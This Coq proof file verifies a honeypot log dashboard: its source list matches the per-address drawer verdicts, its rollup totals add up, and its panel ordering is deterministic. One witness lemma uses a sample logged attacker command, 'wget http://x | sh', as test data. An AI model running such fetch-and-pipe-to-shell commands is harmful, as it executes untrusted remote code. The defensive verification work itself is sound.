(* ===== verification/OverviewFacts.v ===== *)
(** * OverviewFacts: the dashboard and the drawer agree, and the figures add up

    [history l src] is what the pass of [overview] keeps of the log for a source; the
    per-source record follows [analyze_loop] on it step by step. *)

From S2P Require Import Prelude GoStrings Util Geo Event StableSort Feed Analyze Overview.

Lemma bump_spec b n : bump b n = n + (if b then 1 else 0).
Proof. destruct b; simpl; lia. Qed.

(** ** One source *)

Section source.
Context (rfc : str -> option Z) (geo : Resolver) (todayStr : str).
Local Notation fold := (overview_fold rfc geo todayStr).
Local Notation step := (overview_step rfc geo todayStr).
Local Notation loop l := (analyze_loop rfc true l no_analysis).

Definition history (l : list Entry) (src : str) : list Entry :=
  List.filter (fun e => counted e && (srcOf e =s src)) l.

Lemma history_snoc l e src :
  history (l ++ [e]) src = history l src ++ (if counted e && (srcOf e =s src) then [e] else []).
Proof using. unfold history. rewrite List.filter_app. simpl. by destruct (_ && _). Qed.

Lemma analyze_loop_snoc first l e a :
  analyze_loop rfc first (l ++ [e]) a =
  analyze_step rfc (match l with [] => first | _ => false end) e (analyze_loop rfc first l a).
Proof using.
  revert first a. induction l as [| x l IH]; intros first a; [done |]. cbn [app analyze_loop]. rewrite IH. by destruct l.
Qed.

Lemma observe_scanned e s : scanned (observe rfc e s) = scanned s || (e_Event e =s $$"PORT_SCAN").
Proof using.
  unfold observe. destruct (e_Event e =s $$"PORT_SCAN"); [done |]. rewrite orb_false_r.
  repeat (case_match; [cbn [scanned set_flags count_session count_credential observe_command]; by rewrite ?orb_false_r |]). done.
Qed.

(** The state of a source follows the analysis of its history. *)
Record follows (src : str) (h : list Entry) (s : source_state) : Prop := Follows {
  f_sig : ss_sig s = an_sig (loop h);
  f_last : ss_last s = an_prev (loop h);
  f_count : ss_count s = zlen (an_visits (loop h));
  f_scan : os_Scanned (ss_row s) = scanned (an_sig (loop h));
  f_events : os_Events (ss_row s) = zlen h;
  f_ip : os_IP (ss_row s) = src
}.

Lemma count_source_follows src e h s :
  h <> [] -> follows src h s -> follows src (h ++ [e]) (count_source rfc false e s).
Proof using.
  intros Hh [Hs Hl Hc Hsc He Hi].
  assert ((match h with [] => true | _ => false end) = false) as Hf by by destruct h.
  split; unfold count_source; cbn [ss_sig ss_last ss_count ss_row]; rewrite ?analyze_loop_snoc, ?Hf.
  - by rewrite Hs.
  - by rewrite Hl.
  - rewrite bump_spec, Hc, Hl. unfold analyze_step. cbn [an_visits]. unfold zlen. rewrite length_alter.
    unfold new_visit. cbn [orb negb andb]. rewrite (andb_comm (negb (entryMs rfc e =? 0))).
    destruct (_ && _); rewrite ?length_app; simpl; lia.
  - cbn [count_row os_Scanned analyze_step an_sig]. by rewrite observe_scanned, Hsc.
  - cbn [count_row os_Events]. rewrite He, zlen_app. done.
  - done.
Qed.

Lemma new_source_follows src e : follows src [e] (count_source rfc true e (new_source geo src e)).
Proof using.
  split; unfold count_source, new_source; try done.
  cbn [ss_row count_row os_Scanned analyze_loop analyze_step an_sig]. by rewrite observe_scanned.
Qed.

Lemma count_bySrc_lookup src e m src' :
  count_bySrc rfc geo src e m !! src' =
  if bool_decide (src = src') then
    Some (match m !! src with Some s => count_source rfc false e s | None => count_source rfc true e (new_source geo src e) end)
  else m !! src'.
Proof using.
  unfold count_bySrc. case_bool_decide as H; [rewrite <- H |]; destruct (m !! src); by rewrite ?lookup_insert_eq, ?lookup_insert_ne.
Qed.

Lemma fold_snoc l e : fold (l ++ [e]) = step (fold l) e.
Proof using. unfold overview_fold. by rewrite foldl_app. Qed.

Lemma fold_bySrc l src :
  match a_bySrc (fold l) !! src with Some s => history l src <> [] /\ follows src (history l src) s | None => history l src = [] end.
Proof using.
  induction l as [| e l IH] using rev_ind; [done |].
  rewrite fold_snoc, history_snoc. unfold overview_step. destruct (counted e) eqn:Ec; cbn [andb]; [| by rewrite app_nil_r].
  cbn [a_bySrc]. rewrite count_bySrc_lookup. case_bool_decide as Hs.
  - rewrite Hs, seqb_refl. destruct (a_bySrc (fold l) !! src) as [s |].
    + destruct IH as [H1 H2]. split; [by destruct (history l src) | by apply count_source_follows].
    + rewrite IH. split; [done | apply new_source_follows].
  - assert ((srcOf e =s src) = false) as -> by by apply seqb_neq. by rewrite app_nil_r.
Qed.

Lemma fold_order l src : src ∈ a_order (fold l) <-> is_Some (a_bySrc (fold l) !! src).
Proof using.
  induction l as [| e l IH] using rev_ind.
  { split; [by intros H%elem_of_nil | by intros [? ?]]. }
  rewrite fold_snoc. unfold overview_step. destruct (counted e); [| done]. cbn [a_bySrc a_order].
  rewrite count_bySrc_lookup. case_bool_decide as Hs.
  - subst src. split; [eauto |]. intros _. destruct (a_bySrc (fold l) !! srcOf e) eqn:E; [apply IH; eauto |].
    apply elem_of_app. right. by left.
  - rewrite <- IH. destruct (a_bySrc (fold l) !! srcOf e); [done |].
    rewrite elem_of_app, list_elem_of_singleton. naive_solver.
Qed.

Lemma fold_order_NoDup l : NoDup (a_order (fold l)).
Proof using.
  induction l as [| e l IH] using rev_ind; [constructor |].
  rewrite fold_snoc. unfold overview_step. destruct (counted e); [| done]. cbn [a_order].
  destruct (a_bySrc (fold l) !! srcOf e) eqn:E; [done |]. apply NoDup_app. split_and!; [done | | apply NoDup_singleton].
  intros x Hx ->%list_elem_of_singleton. apply fold_order in Hx as [s Hx]. congruence.
Qed.

Lemma tag_row_ip s : os_IP (tag_row s) = os_IP (ss_row s) /\ os_Events (tag_row s) = os_Events (ss_row s).
Proof using. unfold tag_row. by destruct (verdict _) as [[? ?] ?]. Qed.

Lemma rows_elem l r :
  r ∈ rows (fold l) <-> exists s, a_bySrc (fold l) !! os_IP r = Some s /\ r = tag_row s.
Proof using.
  unfold rows. rewrite list_elem_of_omap. split.
  - intros (src & _ & H). destruct (a_bySrc (fold l) !! src) as [s |] eqn:E; simplify_eq/=. exists s.
    pose proof (fold_bySrc l src) as Hf. rewrite E in Hf. destruct Hf as [_ Hf].
    destruct (tag_row_ip s) as [-> _]. by rewrite (f_ip _ _ _ Hf).
  - intros (s & E & Hr). exists (os_IP r). split; [apply fold_order; eauto |]. rewrite E. simpl. by rewrite Hr at 1.
Qed.

(** Entries as the logger writes them: the portal's own notices have no address, the
    others the host of the remote address as their source. *)
Definition logged (e : Entry) : Prop :=
  if (e_Event e =s []) || (e_Event e =s $$"SYSTEM") then e_IP e = [] /\ e_SrcIP e = []
  else e_SrcIP e <> [] /\ HostOnly (e_IP e) = e_SrcIP e.

Lemma byIP_history l src :
  Forall logged l -> src <> [] -> HostOnly src = src -> List.filter (byIP_keep src) l = history l src.
Proof using.
  intros Hl Hs Hh. unfold history. induction Hl as [| e l He _ IH]; [done |]. simpl. rewrite IH.
  assert (byIP_keep src e = counted e && (srcOf e =s src)) as ->; [| done].
  assert (forall a b c : bool, (b = true -> a = true) -> (c = true -> a = true) -> a || b || c = a) as Hor.
  { intros [] [] []; intros H1 H2; try done; exfalso; (discriminate (H1 eq_refl) || discriminate (H2 eq_refl)). }
  unfold byIP_keep, counted, logged, srcOf in *. destruct ((e_Event e =s []) || _); cbn [negb andb].
  - destruct He as [-> ->]. change (HostOnly []) with (@nil ascii). rewrite seqb_refl.
    assert (([] =s src) = false) as -> by (apply seqb_neq; congruence). done.
  - destruct He as [Hne Hip]. assert ((e_SrcIP e =s []) = false) as Hn by by apply seqb_neq. rewrite !Hn. cbn [negb andb].
    apply Hor; [| done]. intros E%seqb_eq. apply seqb_eq. by rewrite <- Hip, E.
Qed.

(** C14: the row of a source in the list carries exactly the verdict its drawer shows: kind,
    confidence, number of visits, returning mark and number of events are those of the
    analysis of the history [byIP] serves for that address. *)
Theorem list_tag_is_drawer_verdict l src r :
  Forall logged l -> src <> [] -> HostOnly src = src -> r ∈ rows (fold l) -> os_IP r = src ->
  let drawer := List.filter (byIP_keep src) l in
  let p := analyzeSource rfc drawer in
  os_Kind r = Kind p /\ os_Confidence r = Confidence p /\ os_Visits r = zlen (Visits p) /\
  os_Returning r = Returning p /\ os_Events r = zlen drawer.
Proof using.
  intros Hl Hs Hh Hr Hi. cbn zeta. rewrite (byIP_history l src Hl Hs Hh).
  apply rows_elem in Hr as (s & E & ->). rewrite Hi in E.
  pose proof (fold_bySrc l src) as Hf. rewrite E in Hf. destruct Hf as [_ [Fs _ Fc Fsc Fe _]].
  unfold analyzeSource, tag_row. rewrite Fs.
  destruct (verdict (an_sig (loop (history l src)))) as [[k c] w].
  cbn [os_Kind os_Confidence os_Visits os_Returning os_Events Kind Confidence Visits Returning].
  unfold is_returning. by rewrite Fc, Fsc, Fe.
Qed.
End source.

Lemma list_tag_is_drawer_verdict_witness :
  let ev name ms cmd := set_stamp (set_command (base_entry name $$"1.2.3.4:99" $$"1.2.3.4" 23 $$"telnet") cmd) $$"t" ms [] [] in
  let l := [ev $$"PORT_SCAN" 1000 []; ev $$"SESSION_START" 9000000 []; ev $$"COMMAND" 9000100 $$"wget http://x | sh"; System $$"up"] in
  exists r, rows (overview_fold (fun _ => None) NewResolver $$"today" l) = [r] /\
    os_Kind r = kindLoader /\ os_Visits r = 2 /\ os_Returning r = true /\
    os_Kind r = Kind (analyzeSource (fun _ => None) (List.filter (byIP_keep $$"1.2.3.4") l)).
Proof.
  intros ev l. eexists. split; [vm_compute; reflexivity |]. split_and!; [reflexivity | reflexivity | reflexivity |].
  apply (list_tag_is_drawer_verdict (fun _ => None) NewResolver $$"today" l $$"1.2.3.4").
  - repeat constructor; done.
  - done.
  - reflexivity.
  - vm_compute. by left.
  - reflexivity.
Defined.

(** ** The rollups *)

Section rollup.
Context (key : overviewSource -> str) (asn : overviewSource -> Z).

Definition members (l : list overviewSource) (k : str) : list overviewSource := List.filter (fun r => key r =s k) l.

Lemma members_snoc l r k : members (l ++ [r]) k = members l k ++ (if key r =s k then [r] else []).
Proof using. unfold members. rewrite List.filter_app. simpl. by destruct (_ =s _). Qed.

Lemma group_fold l :
  let '(agg, keys) := foldl (group_step key asn) (∅, []) l in
  NoDup keys /\ (forall k, k ∈ keys <-> is_Some (agg !! k)) /\
  (forall k, match agg !! k with
             | Some g => members l k <> [] /\ gs_Key g = k /\ gs_Sources g = zlen (members l k) /\
                         gs_Events g = zsum os_Events (members l k)
             | None => members l k = [] end).
Proof using.
  induction l as [| r l IH] using rev_ind.
  { simpl. split_and!; [constructor | | done]. intros k. split; [by intros H%elem_of_nil | by intros [? ?]]. }
  rewrite foldl_snoc. destruct (foldl (group_step key asn) (∅, []) l) as [agg keys]. destruct IH as (Hn & Hk & Hg).
  cbn [group_step]. split_and!.
  - destruct (agg !! key r) eqn:E; [done |]. apply NoDup_app. split_and!; [done | | apply NoDup_singleton].
    intros x Hx ->%list_elem_of_singleton. apply Hk in Hx as [? ?]. congruence.
  - intros k. destruct (decide (key r = k)) as [<- | Hne].
    + rewrite lookup_insert_eq. split; [eauto |]. intros _. destruct (agg !! key r) eqn:E; [apply Hk; eauto |].
      apply elem_of_app. right. by left.
    + rewrite lookup_insert_ne by done. rewrite <- Hk. destruct (agg !! key r); [done |].
      rewrite elem_of_app, list_elem_of_singleton. naive_solver.
  - intros k. rewrite members_snoc. destruct (decide (key r = k)) as [<- | Hne].
    + rewrite lookup_insert_eq, seqb_refl, zlen_app, zsum_snoc. specialize (Hg (key r)).
      split; [by destruct (members l (key r)) |]. cbn [gs_Key gs_Sources gs_Events].
      destruct (agg !! key r) as [g |]; cbn [default from_option id gs_Key gs_Sources gs_Events].
      * destruct Hg as (_ & -> & -> & ->). done.
      * rewrite Hg. done.
    + rewrite lookup_insert_ne by done. apply seqb_neq in Hne. rewrite Hne, app_nil_r. apply Hg.
Qed.

Lemma rollup_elem l g :
  g ∈ rollup key asn l ->
  gs_Sources g = zlen (members l (gs_Key g)) /\ gs_Events g = zsum os_Events (members l (gs_Key g)).
Proof using.
  unfold rollup. pose proof (group_fold l) as Hf. destruct (foldl _ _ l) as [agg keys]. destruct Hf as (_ & _ & Hg).
  rewrite stable_sort_elem, list_elem_of_omap. intros (k & _ & E). specialize (Hg k). rewrite E in Hg.
  destruct Hg as (_ & Hk & Hs & He). by rewrite Hk.
Qed.

(** Grouping by a key and summing gives the total, whatever the key. *)
Lemma members_total (f : overviewSource -> Z) keys l :
  NoDup keys -> (forall r, r ∈ l -> key r ∈ keys) -> zsum (fun k => zsum f (members l k)) keys = zsum f l.
Proof using.
  intros Hn. induction l as [| r l IH] using rev_ind; intros Hin.
  { by apply zsum_zero. }
  rewrite zsum_snoc. rewrite <- IH by (intros r' Hr; apply Hin; apply elem_of_app; by left).
  assert (key r ∈ keys) as Hr by (apply Hin, elem_of_app; right; by left). clear IH Hin.
  assert (forall ks, (key r ∉ ks) -> zsum (fun k => zsum f (members (l ++ [r]) k)) ks = zsum (fun k => zsum f (members l k)) ks) as Hno.
  { intros ks Hk. apply zsum_ext. intros k Hin. rewrite members_snoc.
    assert ((key r =s k) = false) as -> by (apply seqb_neq; congruence). by rewrite app_nil_r. }
  apply list_elem_of_split in Hr as (k1 & k2 & ->).
  apply NoDup_app in Hn as (_ & Hd & [Hn2 _]%NoDup_cons).
  assert (key r ∉ k1) as Hn1. { intros Hx. apply (Hd _ Hx). by left. }
  rewrite !zsum_app, !zsum_cons, !Hno by done. rewrite members_snoc, seqb_refl, zsum_snoc. lia.
Qed.

Lemma rollup_totals l :
  zsum gs_Sources (rollup key asn l) = zlen l /\ zsum gs_Events (rollup key asn l) = zsum os_Events l.
Proof using.
  unfold rollup. pose proof (group_fold l) as Hf. destruct (foldl _ _ l) as [agg keys]. destruct Hf as (Hn & Hk & Hg).
  rewrite !stable_sort_perm.
  assert (forall r, r ∈ l -> key r ∈ keys) as Hin.
  { intros r Hr. apply Hk. specialize (Hg (key r)). destruct (agg !! key r); [eauto |]. exfalso.
    assert (r ∈ members l (key r)) as Hm by (unfold members; apply elem_of_filter_b; by rewrite seqb_refl).
    rewrite Hg in Hm. by apply elem_of_nil in Hm. }
  assert (forall (F : groupStat -> Z) (f : overviewSource -> Z), (forall k g, agg !! k = Some g -> F g = zsum f (members l k)) ->
    zsum F (omap (fun k => agg !! k) keys) = zsum f l) as H.
  { intros F f HF. rewrite <- (members_total f keys l Hn Hin).
    assert (forall ks : list str, (forall k, k ∈ ks -> is_Some (agg !! k)) ->
      zsum F (omap (fun k => agg !! k) ks) = zsum (fun k => zsum f (members l k)) ks) as Hks; [| apply Hks; intros; by apply Hk].
    induction ks as [| k ks IH]; intros Hall; [done |]. cbn [omap list_omap].
    destruct (Hall k) as [g E]; [by left |]. rewrite E, !zsum_cons.
    rewrite IH by (intros; apply Hall; by right). by rewrite (HF k g E). }
  split.
  - rewrite (H gs_Sources (fun _ => 1)); [apply zsum_one |].
    intros k g E. specialize (Hg k). rewrite E in Hg. destruct Hg as (_ & _ & -> & _). by rewrite zsum_one.
  - apply H. intros k g E. specialize (Hg k). rewrite E in Hg. by destruct Hg as (_ & _ & _ & ->).
Qed.
End rollup.

(** ** The figures *)

Section figures.
Context (rfc : str -> option Z) (geo : Resolver) (todayStr : str).
Local Notation fold := (overview_fold rfc geo todayStr).

Lemma count_row_events e s p o r : os_Events (count_row e s p o r) = os_Events r + 1. Proof using. done. Qed.

Lemma rows_events_snoc l e :
  zsum os_Events (rows (fold (l ++ [e]))) = zsum os_Events (rows (fold l)) + (if counted e then 1 else 0).
Proof using.
  rewrite fold_snoc. unfold overview_step. destruct (counted e); [| lia].
  unfold rows. cbn [a_bySrc a_order]. pose proof (fold_order rfc geo todayStr l) as Ho.
  pose proof (fold_order_NoDup rfc geo todayStr l) as Hn.
  set (m := a_bySrc (fold l)) in *. set (ord := a_order (fold l)) in *. set (src := srcOf e).
  set (m' := count_bySrc rfc geo src e m).
  assert (forall ks : list str, src ∉ ks -> omap (fun s => tag_row <$> m' !! s) ks = omap (fun s => tag_row <$> m !! s) ks) as Hother.
  { intros ks Hk. apply list_omap_ext. induction ks as [| k ks IH]; [constructor |].
    rewrite not_elem_of_cons in Hk. destruct Hk as [Hk Hks]. constructor; [| by apply IH].
    unfold m'. rewrite count_bySrc_lookup. by rewrite bool_decide_eq_false_2. }
  assert (m' !! src = Some (match m !! src with Some s => count_source rfc false e s | None => count_source rfc true e (new_source geo src e) end)) as Hm'.
  { unfold m'. rewrite count_bySrc_lookup. by rewrite bool_decide_eq_true_2. }
  destruct (m !! src) as [s |] eqn:E.
  - assert (src ∈ ord) as (k1 & k2 & Hk)%list_elem_of_split by (apply Ho; eauto).
    rewrite Hk in *. apply NoDup_app in Hn as (_ & Hd & [Hn2 _]%NoDup_cons).
    rewrite !omap_app, !zsum_app. cbn [omap list_omap]. rewrite Hm', E. cbn [fmap option_fmap option_map].
    rewrite !Hother; [| done | intros Hx; apply (Hd _ Hx); by left].
    rewrite !zsum_cons.
    destruct (tag_row_ip (count_source rfc false e s)) as [_ ->]. destruct (tag_row_ip s) as [_ ->].
    unfold count_source. cbn [ss_row]. rewrite count_row_events. lia.
  - assert (src ∉ ord) as Hno by (intros Hx; apply Ho in Hx as [? ?]; congruence).
    rewrite omap_app, zsum_app, Hother by done. cbn [omap list_omap]. rewrite Hm'. cbn [fmap option_fmap option_map].
    rewrite zsum_cons. change (zsum os_Events []) with 0. destruct (tag_row_ip (count_source rfc true e (new_source geo src e))) as [_ ->].
    unfold count_source, new_source. cbn [ss_row]. rewrite count_row_events. cbn [os_Events]. lia.
Qed.

Lemma rows_length l : zlen (rows (fold l)) = zlen (a_order (fold l)).
Proof using.
  unfold rows, zlen. f_equal. pose proof (fold_order rfc geo todayStr l) as Ho.
  assert (forall ks : list str, (forall k, k ∈ ks -> is_Some (a_bySrc (fold l) !! k)) ->
    length (omap (fun s => tag_row <$> a_bySrc (fold l) !! s) ks) = length ks) as H; [| apply H; intros; by apply Ho].
  induction ks as [| k ks IH]; intros Hk; [done |]. cbn [omap list_omap]. destruct (Hk k) as [s E]; [by left |]. rewrite E.
  simpl. rewrite IH; [done |]. intros. apply Hk. by right.
Qed.

End figures.

(** ** The order of the panels *)

(** The comparisons are strict weak orders. *)
Lemma port_less_asym x y : port_less x y = true -> port_less y x = false.
Proof. unfold port_less. intros H. destruct (negb (ps_Hits x =? ps_Hits y)) eqn:E1; destruct (negb (ps_Hits y =? ps_Hits x)) eqn:E2; bool_hyps; try lia; apply Z.ltb_ge; lia. Qed.
Lemma port_less_ntrans x y z : port_less y x = false -> port_less z y = false -> port_less z x = false.
Proof.
  unfold port_less. intros H1 H2.
  destruct (negb (ps_Hits y =? ps_Hits x)) eqn:E1; destruct (negb (ps_Hits z =? ps_Hits y)) eqn:E2;
    destruct (negb (ps_Hits z =? ps_Hits x)) eqn:E3; bool_hyps; try lia; apply Z.ltb_ge; lia.
Qed.
Lemma port_less_total x y : port_less x y = false -> port_less y x = false -> ps_Port x = ps_Port y.
Proof.
  unfold port_less. intros H1 H2.
  destruct (negb (ps_Hits x =? ps_Hits y)) eqn:E1; destruct (negb (ps_Hits y =? ps_Hits x)) eqn:E2; bool_hyps; lia.
Qed.

Lemma str_lt_asym a b : str_le b a = false -> str_le a b = true.
Proof. intros H. destruct (str_le_total a b) as [? | ?]; congruence. Qed.
Lemma str_le_false_trans a b c : negb (str_le a b) = false -> negb (str_le b c) = false -> negb (str_le a c) = false.
Proof. rewrite !negb_false_iff. apply str_le_trans. Qed.

(** Busier first, then by a text: the order of [topAgents] and, reversed, of [topSources]. *)
Definition busier {A} (n : A -> Z) (le : A -> A -> bool) (x y : A) : bool :=
  if negb (n x =? n y) then n y <? n x else negb (le x y).
Section busier.
Context {A : Type} (n : A -> Z) (le : A -> A -> bool)
  (le_total : forall x y, le x y = true \/ le y x = true)
  (le_tr : forall x y z, le x y = true -> le y z = true -> le x z = true).

Lemma busier_asym x y : busier n le x y = true -> busier n le y x = false.
Proof using le_total.
  unfold busier. intros H.
  destruct (negb (n x =? n y)) eqn:E1; destruct (negb (n y =? n x)) eqn:E2; bool_hyps; try lia; try (apply Z.ltb_ge; lia).
  apply negb_false_iff. destruct (le_total x y); congruence.
Qed.
Lemma busier_ntrans x y z : busier n le y x = false -> busier n le z y = false -> busier n le z x = false.
Proof using le_tr.
  unfold busier. intros H1 H2.
  destruct (negb (n y =? n x)) eqn:E1; destruct (negb (n z =? n y)) eqn:E2;
    destruct (negb (n z =? n x)) eqn:E3; bool_hyps; try lia; try (apply Z.ltb_ge; lia).
  apply negb_false_iff. by apply (le_tr z y x).
Qed.
Lemma busier_ties x y : busier n le x y = false -> busier n le y x = false -> n x = n y /\ le x y = true /\ le y x = true.
Proof using.
  unfold busier. intros H1 H2.
  destruct (negb (n x =? n y)) eqn:E1; destruct (negb (n y =? n x)) eqn:E2; bool_hyps; try lia; done.
Qed.
Lemma busier_count x y : busier n le x y = false -> n x <= n y.
Proof using. unfold busier. destruct (negb (n x =? n y)) eqn:E1; intros; bool_hyps; lia. Qed.

(** What a cap keeps of the sorted list is the busiest. *)
Lemma capped (cap : nat) l :
  exists dropped, take cap (stable_sort (busier n le) l) ++ dropped ≡ₚ l /\
    (dropped <> [] -> length (take cap (stable_sort (busier n le) l)) = cap) /\
    forall x y, x ∈ take cap (stable_sort (busier n le) l) -> y ∈ dropped -> n y <= n x.
Proof using le_total le_tr.
  pose proof (stable_sort_sorted (busier n le) busier_asym busier_ntrans l) as Hs.
  pose proof (stable_sort_perm (busier n le) l) as Hp.
  exists (drop cap (stable_sort (busier n le) l)). rewrite take_drop. split_and!; [done | |].
  - intros Hd. rewrite length_take. enough (cap <= length (stable_sort (busier n le) l))%nat by lia.
    apply Nat.nlt_ge. intros Hlt. apply Hd. apply drop_ge. lia.
  - intros x y Hx Hy. rewrite <- (take_drop cap (stable_sort (busier n le) l)) in Hs.
    apply StronglySorted_app in Hs as (Hxy & _ & _). apply busier_count. by apply (Hxy x y).
Qed.
End busier.

Definition later_le (x y : overviewSource) : bool := str_le (os_LastSeen x) (os_LastSeen y).
Definition agent_ge (x y : agentStat) : bool := str_le (ag_Agent y) (ag_Agent x).
Lemma later_le_total x y : later_le x y = true \/ later_le y x = true. Proof. apply str_le_total. Qed.
Lemma later_le_trans x y z : later_le x y = true -> later_le y z = true -> later_le x z = true. Proof. apply str_le_trans. Qed.
Lemma agent_ge_total x y : agent_ge x y = true \/ agent_ge y x = true. Proof. apply str_le_total. Qed.
Lemma agent_ge_trans x y z : agent_ge x y = true -> agent_ge y z = true -> agent_ge x z = true.
Proof. intros H1 H2. by apply (str_le_trans _ (ag_Agent y)). Qed.

Section panels.
Context (rfc : str -> option Z) (geo : Resolver) (todayStr : str).
Local Notation fold := (overview_fold rfc geo todayStr).

Lemma ports_keyed l p ps : a_ports (fold l) !! p = Some ps -> ps_Port ps = p.
Proof using.
  revert p ps. induction l as [| e l IH] using rev_ind; intros p ps; [done |].
  rewrite fold_snoc. unfold overview_step. destruct (counted e); [| apply IH]. cbn [a_ports].
  unfold count_port. destruct (0 <? e_Port e); [| apply IH].
  intros [[<- <-] | [_ H]]%lookup_insert_Some; [| by apply IH]. cbn [ps_Port].
  destruct (a_ports (fold l) !! e_Port e) as [ps0 |] eqn:E; [| done]. exact (IH _ _ E).
Qed.
Lemma agents_keyed l a ua srcs : a_agents (fold l) !! a = Some (ua, srcs) -> ag_Agent ua = a.
Proof using.
  revert a ua srcs. induction l as [| e l IH] using rev_ind; intros a ua srcs; [done |].
  rewrite fold_snoc. unfold overview_step. destruct (counted e); [| apply IH]. cbn [a_agents].
  unfold count_agent. destruct (e_UserAgent e =s []); [apply IH |].
  destruct (a_agents (fold l) !! e_UserAgent e) as [[ua0 s0] |] eqn:E; cbn [default from_option id];
    intros [[<- [= <- <-]] | [_ H]]%lookup_insert_Some; try (by eapply IH); cbn [ag_Agent]; [exact (IH _ _ _ E) | done].
Qed.

(** the panels do not depend on the random order in which Go ranges over the maps behind
    them, and a cap never hides a busier row behind a quieter one: the ports and the
    client strings come out the same for any two iteration orders, and a source or client
    string left out has no more events than any that is shown. *)
Theorem panels_deterministic l ports1 ports2 agents1 agents2 :
  let a := fold l in
  ports1 ≡ₚ map snd (map_to_list (a_ports a)) -> ports2 ≡ₚ map snd (map_to_list (a_ports a)) ->
  agents1 ≡ₚ map (fun x => x.2.1) (map_to_list (a_agents a)) -> agents2 ≡ₚ map (fun x => x.2.1) (map_to_list (a_agents a)) ->
  sortedPorts ports1 = sortedPorts ports2 /\ topAgents agents1 = topAgents agents2 /\
  (exists dropped, topAgents agents1 ++ dropped ≡ₚ agents1 /\ zlen (topAgents agents1) <= agentCap /\
     forall x y, x ∈ topAgents agents1 -> y ∈ dropped -> ag_Count y <= ag_Count x) /\
  (exists dropped, topSources (rows a) ++ dropped ≡ₚ rows a /\ zlen (topSources (rows a)) <= overviewSourceCap /\
     forall x y, x ∈ topSources (rows a) -> y ∈ dropped -> os_Events y <= os_Events x).
Proof using.
  cbn zeta. intros Hp1 Hp2 Ha1 Ha2.
  assert (forall (B : Type) (l : list B) c, (if Z.of_nat c <? zlen l then take c l else l) = take c l) as Hcap.
  { intros B k c. destruct (Z.of_nat c <? zlen k) eqn:E; [done |]. bool_hyps. unfold zlen in E. symmetry. apply take_ge. lia. }
  split_and!.
  - apply stable_sort_unique; [apply port_less_asym | apply port_less_ntrans | by rewrite Hp1, Hp2 |].
    intros x y Hx Hy H1 H2. rewrite Hp1 in Hx, Hy. apply list_elem_of_fmap in Hx as ([p x'] & -> & Hx), Hy as ([q y'] & -> & Hy).
    apply elem_of_map_to_list in Hx, Hy. cbn [snd] in *. pose proof (port_less_total _ _ H1 H2) as Ht.
    rewrite (ports_keyed l p x' Hx), (ports_keyed l q y' Hy) in Ht. congruence.
  - unfold topAgents. assert (stable_sort agent_less agents1 = stable_sort agent_less agents2) as ->; [| done].
    apply (stable_sort_unique (busier ag_Count agent_ge)).
    + apply busier_asym, agent_ge_total.
    + apply busier_ntrans, agent_ge_trans.
    + by rewrite Ha1, Ha2.
    + intros x y Hx Hy H1 H2. rewrite Ha1 in Hx, Hy.
      apply list_elem_of_fmap in Hx as ([p [x' s]] & -> & Hx), Hy as ([q [y' s']] & -> & Hy).
      apply elem_of_map_to_list in Hx, Hy. cbn [fst snd] in *. destruct (busier_ties _ _ _ _ H1 H2) as (_ & Hle & Hge).
      pose proof (str_le_antisym _ _ Hle Hge) as Ht.
      rewrite (agents_keyed l p x' s Hx), (agents_keyed l q y' s' Hy) in Ht. congruence.
  - destruct (capped ag_Count agent_ge agent_ge_total agent_ge_trans (Z.to_nat agentCap) agents1) as (d & H1 & _ & H2).
    assert (topAgents agents1 = take (Z.to_nat agentCap) (stable_sort (busier ag_Count agent_ge) agents1)) as -> by exact (Hcap _ _ (Z.to_nat agentCap)).
    exists d. split_and!; [exact H1 | rewrite zlen_take; unfold agentCap; lia | exact H2].
  - destruct (capped os_Events later_le later_le_total later_le_trans (Z.to_nat overviewSourceCap) (rows (fold l))) as (d & H1 & _ & H2).
    assert (topSources (rows (fold l)) = take (Z.to_nat overviewSourceCap) (stable_sort (busier os_Events later_le) (rows (fold l)))) as ->
      by exact (Hcap _ _ (Z.to_nat overviewSourceCap)).
    exists d. split_and!; [exact H1 | rewrite zlen_take; unfold overviewSourceCap; lia | exact H2].
Qed.
End panels.

Lemma panels_deterministic_witness :
  let ev ip ua port := set_http (base_entry $$"HTTP_REQUEST" ip ip port $$"http") [] [] [] [] ua ∅ in
  let l := [ev $$"1.2.3.4" $$"curl" 80; ev $$"1.2.3.5" $$"zgrab" 8080; ev $$"1.2.3.5" $$"curl" 80] in
  let a := overview_fold (fun _ => None) NewResolver $$"today" l in
  let ports := map snd (map_to_list (a_ports a)) in
  let agents := map (fun x => x.2.1) (map_to_list (a_agents a)) in
  sortedPorts ports = [PortStat 80 $$"http" 2 0; PortStat 8080 $$"http" 1 0] /\
  map os_IP (topSources (rows a)) = [$$"1.2.3.5"; $$"1.2.3.4"] /\
  sortedPorts ports = sortedPorts (rev ports).
Proof.
  intros ev l a ports agents. split; [vm_compute; reflexivity |]. split; [vm_compute; reflexivity |].
  apply (panels_deterministic (fun _ => None) NewResolver $$"today" l ports (rev ports) agents agents);
    [reflexivity | symmetry; apply Permutation_rev | reflexivity | reflexivity].
Defined.
